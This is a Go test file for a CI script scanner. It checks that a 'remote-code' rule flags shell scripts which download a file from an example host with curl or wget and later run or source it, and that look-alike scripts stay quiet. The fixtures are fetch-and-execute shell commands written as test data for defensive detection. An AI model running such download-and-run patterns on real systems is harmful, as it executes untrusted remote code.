package check

import (
	"context"
	"fmt"
	"slices"
	"testing"
)

// TestDownloadAcrossFunctions checks, as a CI file scan does (Script), a
// download in one function that another function runs (issue 12), with the
// path in a variable, and the look-alikes that must stay quiet: another
// path, the variable assigned again, a positional parameter, a file only
// read. Each case is a real-shaped script file.
func TestDownloadAcrossFunctions(t *testing.T) {
	tests := []struct {
		name string
		file string
		want string // a rule that must be reported at a line, as "LINE:RULE"; "" for none of remote-code
	}{
		{"path in a variable, two functions",
			"#!/bin/sh\nset -e\ndownload() {\n\twget -qO \"$TMP/get.sh\" https://get.example.com/\n}\nrun_it() {\n\tbash \"$TMP/get.sh\"\n}\ndownload\nrun_it\n", "7:remote-code"},
		{"arguments with a variable in them",
			"#!/bin/sh\nfetch() { curl -fsSL -o \"$2\" \"$1\"; }\nrun() { sh \"$1\"; }\nfetch \"$URL\" \"$work/install.sh\"\nrun \"$work/install.sh\"\n", "3:remote-code"},
		{"the file run as a command after chmod",
			"#!/bin/bash\nfetch() {\n  curl -fsSL https://x.example/get.sh > \"$dest\"\n}\ninstall() {\n  chmod +x \"$dest\"\n  \"$dest\" --yes\n}\nfetch\ninstall\n", "7:remote-code"},
		{"curl --output=PATH, sourced", "#!/bin/sh\nget() { curl -fsSL --output=\"$d/env.sh\" https://x.example/e; }\nget\n. \"$d/env.sh\"\n", "4:remote-code"},
		{"static path, two functions", "#!/bin/sh\nfetch() { curl -fsSL https://x.example/i.sh -o /tmp/i.sh; }\nrun() { sh /tmp/i.sh; }\nfetch\nrun\n", "3:remote-code"},

		{"another file is run", "#!/bin/sh\ncurl -fsSL https://x.example/get.sh -o \"$TMP/get.sh\"\nbash \"$TMP/other.sh\"\n", ""},
		{"the variable is assigned again", "#!/bin/sh\ncurl -fsSL https://x.example/get.sh -o \"$TMP/get.sh\"\nTMP=/opt/kit\nbash \"$TMP/get.sh\"\n", ""},
		{"the download is only read", "#!/bin/sh\ncurl -fsSL https://x.example/sums -o \"$TMP/sums\"\nsha256sum -c \"$TMP/sums\"\n", ""},
		{"different arguments", "#!/bin/sh\nfetch() { curl -fsSL -o \"$2\" \"$1\"; }\nrun() { sh \"$1\"; }\nfetch \"$URL\" \"$work/a.sh\"\nrun \"$work/b.sh\"\n", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := Script(context.Background(), "f.sh", tt.file, Options{Script: true})
			var got []string
			for _, f := range r.Findings {
				got = append(got, fmt.Sprintf("%d:%s", f.Line, f.Rule))
			}
			if tt.want != "" && !slices.Contains(got, tt.want) {
				t.Errorf("findings %v, want %s", got, tt.want)
			}
			if tt.want == "" {
				for _, f := range r.Findings {
					if f.Rule == "remote-code" {
						t.Errorf("remote-code reported: %v", got)
					}
				}
			}
		})
	}
}
